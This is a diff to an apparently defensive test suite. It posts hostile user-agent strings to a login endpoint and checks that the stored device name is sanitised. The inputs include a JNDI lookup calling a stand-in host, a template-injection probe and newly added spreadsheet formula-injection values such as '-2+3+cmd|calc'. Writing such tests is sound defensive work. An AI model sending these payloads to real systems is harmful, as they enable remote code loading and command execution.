@@ -193,13 +193,18 @@ describe.each(ADAPTERS)('requirements on data and set-up, on %s', (adapter) => {
       'x'.repeat(8_000),
       'curl/8.5.0 \u00e9\u00ff',
       '{{7*7}} ${jndi:ldap://evil.example}',
+      '+SUM(1,1)',
+      '-2+3+cmd|calc',
+      '@SUM(1+1)*cmd|calc',
+      '\t=1+1',
+      '.',
     ];
     for (const agent of agents) {
       const user = `u${agents.indexOf(agent)}`;
       const headers = { 'user-agent': agent };
       expect((await new Client(url).post('/login', { user }, headers)).status).toBe(204);
       const { device } = (await service.list(user)).sessions[0] ?? {};
-      expect(device?.client ?? 'none').toMatch(/^[\w.+/ -]{1,64}$/);
+      expect(device?.client ?? 'none').toMatch(/^\w[\w.+/ -]{0,63}$/);
     }
   });
 
